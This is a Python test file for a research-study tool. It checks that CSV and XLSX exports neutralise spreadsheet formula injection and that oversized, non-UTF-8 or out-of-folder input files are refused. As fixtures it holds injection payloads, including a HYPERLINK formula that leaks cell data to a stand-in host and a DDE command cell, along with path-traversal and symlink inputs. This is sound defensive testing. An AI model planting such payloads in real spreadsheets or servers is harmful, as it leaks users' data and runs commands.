"""Bad-input attacks: formula injection through every CSV/XLSX output (one writer for all of them),
papers whose near-identical titles made duplicate detection quadratic, files beyond reason in size,
claims files that are not UTF-8, a mistyped dataset, a changed claim text, and snapshot paths that
name any file on the server."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from studyapp.services.interviews.imports import import_transcripts
from studyapp.services.interviews.spans import add_span
from studyapp.services.study.study import init_study
from tests.security.conftest import run_cli

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1+1)", "@SUM(A1)", "-2+3"]

INTERVIEW_CODEBOOK = """\
id: inj
title: Injection
version: "1"
kind: interview
fields:
  - id: theme
    label: Theme
    type: multi
    codes:
      - {id: a, label: '=HYPERLINK("http://evil.example/?leak="&A1,"x")'}
      - {id: b, label: "+SUM(1+1)"}
"""


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _no_formula(text: str) -> None:
    bad = [c for c in _cells(text) if c.startswith(("=", "+", "@", "\t", "\r"))
           or (c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?([eE][+-]?\d+)?", c))]
    assert not bad, f"formula cells: {bad}"


@pytest.fixture
def interview_study(tmp_path):
    cb = tmp_path / "inj.yaml"
    cb.write_text(INTERVIEW_CODEBOOK, encoding="utf-8")
    store = init_study(tmp_path / "iv", title="=cmd|' /C calc'!A0", codebooks=[cb])
    store.coders.add("lea", "lead")
    store.coders.add("@bob")
    t = tmp_path / "interview-01.txt"
    t.write_text("Interviewer: Q?\n\nP1: =HYPERLINK(\"http://evil.example\") +SUM(1+1) said the participant.\n",
                 encoding="utf-8")
    import_transcripts(store, [t], participant="=P1")
    seg = store.units.by_key("segment", "interview-01:2")
    add_span(store, seg["id"], "@bob", 0, 20, ["theme:a", "theme:b"], codebook="inj")
    add_span(store, seg["id"], "lea", 0, 10, ["theme:a"], codebook="inj")
    yield store
    store.close()


@pytest.mark.parametrize("command", [["spans"], ["frequencies", "--codebook", "inj"],
                                     ["cooccurrence", "--codebook", "inj"], ["matrix", "--codebook", "inj"],
                                     ["matrix", "--codebook", "inj", "--cells", "quotes"]],
                         ids=["spans", "frequencies", "cooccurrence", "matrix", "matrix-quotes"])
def test_interview_tables_as_csv_carry_no_formula(interview_study, command):
    out = run_cli("interviews", command[0], interview_study.folder, *command[1:], "--format", "csv", code=0)
    assert out.strip(), out
    _no_formula(out)


def test_irr_csv_carries_no_formula(tmp_path):
    head = "id," + ",".join(f'"{f.replace(chr(34), chr(34) * 2)}"' for f in FORMULAS[:2]) + "\n"
    a, b = tmp_path / "=ann.csv", tmp_path / "bo.csv"
    a.write_text(head + "u1,x,y\nu2,x,z\nu3,y,y\n", encoding="utf-8")
    b.write_text(head + "u1,x,y\nu2,y,z\nu3,y,z\n", encoding="utf-8")
    out = run_cli("irr", a, b, "--key", "id", "--format", "csv", "--n-boot", "0", code=0)
    assert "HYPERLINK" in out
    _no_formula(out)


def test_the_agreement_report_and_crosstab_csv_carry_no_formula(study):
    from studyapp.services.agreement import report
    from studyapp.services.coding.coding import CodingRow, code_many
    from studyapp.services.defects import crosstab

    study.rounds.ensure("=r1", "+Round", actor="lea")
    units = [study.units.by_key("defect", f"D{i}")["id"] for i in (1, 2, 3)]
    code_many(study, [CodingRow(u, "tiny", "stage", c, v, round="=r1") for u, c, v in
                      ((units[0], "bob", "env"), (units[0], "chen", "env"), (units[1], "bob", "train"),
                       (units[1], "chen", "env"), (units[2], "bob", "env"), (units[2], "chen", "env"))])
    _no_formula(report.render(study, "csv", "tiny", n_boot=0))
    code_many(study, [CodingRow(u, "tiny", "severity", "bob", "low") for u in units])
    _no_formula(crosstab.render(crosstab.crosstab(study, "stage", "severity", codebook="tiny", coder="bob"), "csv"))


def test_the_extraction_workbook_holds_no_formula_cell(tmp_path):
    import openpyxl

    from studyapp.paths import CODEBOOKS_DIR
    from studyapp.services.papers import exports

    store = init_study(tmp_path / "slr", title="SLR", codebooks=[CODEBOOKS_DIR / "ptm-reuse-slr.yaml"])
    store.coders.add("lea", "lead")
    from studyapp.services.papers import extraction
    cb = extraction.setup(store)
    field = cb.fields[0]
    import dataclasses
    poisoned = dataclasses.replace(field, label='=HYPERLINK("http://evil.example","x")', definition="+SUM(1+1)")
    monkey = dataclasses.replace(cb, fields=(poisoned,) + cb.fields[1:])
    orig = extraction.setup
    try:
        extraction.setup = lambda s: monkey
        data = exports.extraction_xlsx(store, "lea")
    finally:
        extraction.setup = orig
    wb = openpyxl.load_workbook(io.BytesIO(data))
    formulas = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas, formulas
    store.close()


def test_the_one_writer_rule():
    """No CSV or spreadsheet is written but through domain/spreadsheet_safe.py or render/tables.py."""
    root = Path(__file__).resolve().parents[2] / "studyapp"
    allowed = {root / "domain" / "spreadsheet_safe.py", root / "render" / "tables.py"}
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(|\.to_excel\(")
    offenders = [f"{p.relative_to(root.parent)}:{n}" for p in root.rglob("*.py") if p not in allowed
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert not offenders, offenders


# -- claims: a file that is not UTF-8, a mistyped dataset, a changed text, snapshots of server files ------
def test_a_claims_file_that_is_not_utf8_is_named_with_its_line(study, tmp_path):
    p = tmp_path / "claims.yaml"
    p.write_bytes("claims:\n  - id: c1\n    text: caf\xe9 latte\n".encode("latin-1"))
    out = run_cli("claims", "import", study.folder, p, "--by", "lea")
    assert "claims.yaml:3: not UTF-8" in out
    assert study.claims.list() == []


def test_a_claims_file_beyond_reason_in_size_is_refused_unread(study, tmp_path, monkeypatch):
    from studyapp.services.claims import claims_file

    monkeypatch.setattr(claims_file, "MAX_FILE_BYTES", 1000, raising=False)
    p = tmp_path / "claims.yaml"
    p.write_text("claims:\n" + "".join(f"  - {{id: c{i}, text: t}}\n" for i in range(100)), encoding="utf-8")
    out = run_cli("claims", "import", study.folder, p, "--by", "lea")
    assert "more than 1,000 bytes" in out and study.claims.list() == []


def test_a_mistyped_dataset_stops_validation_and_records_nothing(study, tmp_path):
    study.claims.upsert("C1", text="Models are downloaded", type="quantitative",
                        data={"metric": "license_consistency"})
    out = run_cli("validate", study.folder, "--dataset", tmp_path / "peatmos.db")
    assert "no such dataset file" in out and "peatmos.db" in out
    assert study.claims.latest_validations() == {}


def test_a_changed_claim_text_marks_its_verdict_stale(study):
    from studyapp.services.claims import validation

    study.claims.upsert("C1", text="Most defects are environment defects", type="qualitative", data={})
    validation.validate_study(study, actor="lea")
    assert not validation.evidence_table(study)["stale"][0]
    study.claims.upsert("C1", text="No defect is an environment defect", type="qualitative", data={})
    assert validation.evidence_table(study)["stale"][0]


@pytest.mark.parametrize("where", ["absolute", "dotdot", "symlink", "database"])
def test_a_snapshot_path_out_of_the_study_folder_is_refused_unread(study, tmp_path, where):
    from studyapp.services.claims import validation

    secret = tmp_path / "secret.csv"
    secret.write_text("TOPSECRET,password123\nx,y\n", encoding="utf-8")
    (study.folder / "claims").mkdir()
    (study.folder / "claims" / "link.csv").symlink_to(secret)
    path = {"absolute": str(secret), "dotdot": "../secret.csv", "symlink": "claims/link.csv",
            "database": "study.db"}[where]
    data = {"metric": "turnover", "params": {"snapshots": [path, path], "k": 1}}
    study.claims.upsert("T", text="Top models churn", type="quantitative", data=data)
    from studyapp.errors import InvalidInput

    try:
        [out] = validation.validate_study(study, actor="lea")
        said = out.verdict.reason + str(out.record())
        assert out.verdict.verdict == "inconclusive"
    except InvalidInput as e:  # the claim's check is refused as a whole
        said = str(e)
    assert "not a file of the study folder" in said or "leads out of the study folder" in said, said
    assert "TOPSECRET" not in said and "password123" not in said and "SQLite format" not in said
    if where != "symlink":
        from studyapp.services.claims.claims_file import check_claim

        with pytest.raises(InvalidInput, match="not a file of the study folder"):
            check_claim({"id": "T", "text": "x", **data})


# -- slow bad input: near-identical titles, files beyond reason ------------------------------------------
def _near_identical(n: int, seed: int = 3) -> list[str]:
    import random
    import string

    rng = random.Random(seed)
    return ["An empirical study of pre-trained model reuse in " + "".join(rng.choice(string.ascii_lowercase)
                                                                         for _ in range(6)) for _ in range(n)]


def test_duplicate_detection_of_near_identical_titles_stays_near_linear(monkeypatch):
    """1,500 titles alike but for their last word, one year: the unblocked search compared each with
    every primary so far (quadratic: 50 MB ran 17-44 minutes). Counted, not timed: with blocks of at
    most 16, no title is compared with more than a few dozen others."""
    from studyapp.services.papers import dedup

    monkeypatch.setattr(dedup, "MAX_BLOCK", 16, raising=False)
    compared = []
    real = dedup.process.extract

    def counting(query, choices, **kw):
        compared.append(len(choices))
        return real(query, choices, **kw)
    monkeypatch.setattr(dedup.process, "extract", counting)
    m = dedup.Matcher()
    titles = _near_identical(1500)
    for i, t in enumerate(titles):
        if not m.find(t, 2023, "", i):
            m.add(i, t, 2023, "")
    assert max(compared) <= 4 * 16 and sum(compared) <= 4 * 16 * len(titles), (max(compared), sum(compared))


def test_blocking_finds_what_the_full_search_found_on_real_search_results():
    """The Kitchenham 2010 tertiary study's 1,704 search results (with their known duplicates): blocked
    and unblocked matching link the same records to the same primaries with the same scores."""
    from studyapp.services.papers import dedup
    from tests.conftest import shared_or_skip

    rows = list(csv.DictReader(shared_or_skip("slr-screening", "Kitchenham_2010.csv").open(encoding="utf-8")))

    class Unblocked(dedup.Matcher):
        def _candidates(self, t, year):
            return {pid: self.titles[pid] for pid in sorted(self.titles, key=self.order.__getitem__)
                    if self.years[pid] == year}

        def add(self, uid, title, year, doi):
            super().add(uid, title, year, doi)
            self.__dict__.setdefault("years", {})[uid] = year

    def links(matcher):
        out = {}
        for uid, r in enumerate(rows):
            year = int(r["year"]) if r["year"].isdigit() else None
            hit = matcher.find(r["title"], year, "", uid)
            if hit:
                out[uid] = (hit.primary_id, round(hit.score, 6))
            else:
                matcher.add(uid, r["title"], year, "")
        return out
    blocked, full = links(dedup.Matcher()), links(Unblocked())
    assert blocked == full and len(full) >= 5


def test_a_papers_file_beyond_reason_is_refused_unread(tmp_path, monkeypatch):
    from studyapp import files

    monkeypatch.setattr(files, "MAX_INPUT_BYTES", 10_000, raising=False)
    big = tmp_path / "scopus.csv"
    big.write_text("Title,Year\n" + "".join(f"{t},2023\n" for t in _near_identical(400)), encoding="utf-8")
    store = init_study(tmp_path / "slr", title="SLR")
    store.coders.add("lea", "lead")
    out = run_cli("import", "papers", store.folder, big, "--by", "lea")
    assert "more than the 10,000" in out and store.units.count("paper") == 0
    store.close()
